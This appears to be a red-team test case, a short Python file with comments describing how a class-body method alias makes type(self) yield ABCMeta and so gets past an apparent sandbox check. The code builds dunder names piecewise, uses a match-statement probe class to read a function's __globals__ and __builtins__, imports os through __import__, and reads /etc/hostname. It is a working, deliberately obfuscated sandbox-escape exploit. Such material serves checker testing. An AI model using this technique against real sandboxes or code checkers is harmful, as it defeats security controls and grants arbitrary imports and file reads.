# family: red team, round 8 (method_alias_type_self)
# type(self) is accepted in a method "never reached through its class on another object"; own_object only
# looks for attribute loads spelled like the def's name. A class-body alias (name = method) is read through
# the class with any object as self, so type(self) returns the class of anything: here ABCMeta.
import abc


class Base(abc.ABC):
    def kind(self):
        return type(self)

    kind_of = kind


def metaclass_of_base():
    return Base.kind_of(Base)


def _d(word):
    u = "_"
    return u + u + word + u + u


def read(obj, attribute):
    meta = metaclass_of_base()
    probe = meta("Probe", (), {_d("subclasshook"): classmethod(lambda c, s: True), _d("match_args"): (attribute,)})
    match obj:
        case probe(value):
            return value


def run():
    g = read(read, _d("globals"))
    b = g[_d("builtins")]
    if not isinstance(b, dict):
        b = read(b, _d("dict"))
    osmod = b[_d("import")]("os")
    return metaclass_of_base().__name__, type(osmod).__name__, osmod.getpid(), b["open"]("/etc/hostname").read().strip()


print(run())
